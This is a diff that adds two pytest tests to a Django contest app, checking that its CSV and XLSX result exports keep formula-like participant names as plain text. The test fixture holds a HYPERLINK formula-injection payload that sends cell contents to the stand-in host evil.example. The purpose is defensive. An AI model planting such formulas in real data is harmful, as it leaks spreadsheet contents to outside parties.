@@ -133,6 +133,34 @@ def test_the_organizer_xlsx_export_has_the_ranking_with_personal_data_and_the_wi
     assert [c.value for c in winners[3]][:3] == ["Giải Nhì", 2, "Dân Công Dân"]
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+@pytest.mark.django_db
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv_export(results, olga, phuong):
+    phuong.full_name = FORMULA_NAME
+    phuong.save()
+
+    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
+    assert rows[1][1] == "'" + FORMULA_NAME
+    assert rows[2][1] == "Dân Công Dân"
+
+
+@pytest.mark.django_db
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx_export(results, olga, phuong):
+    phuong.full_name = FORMULA_NAME
+    phuong.save()
+
+    response = client_for(olga).get(f"/manage/rounds/{results.pk}/export.xlsx")
+
+    ranking, winners = load_workbook(io.BytesIO(response.content)).worksheets
+    for cell in (ranking.cell(row=2, column=2), winners.cell(row=2, column=3)):
+        assert cell.value == FORMULA_NAME
+        assert cell.data_type == "s", "a formula would run when the organizer opens the file"
+
+
 @pytest.mark.django_db
 def test_the_committee_xlsx_export_leaves_personal_data_out(results, khoa):
     response = client_for(khoa).get(f"/manage/rounds/{results.pk}/export.xlsx")
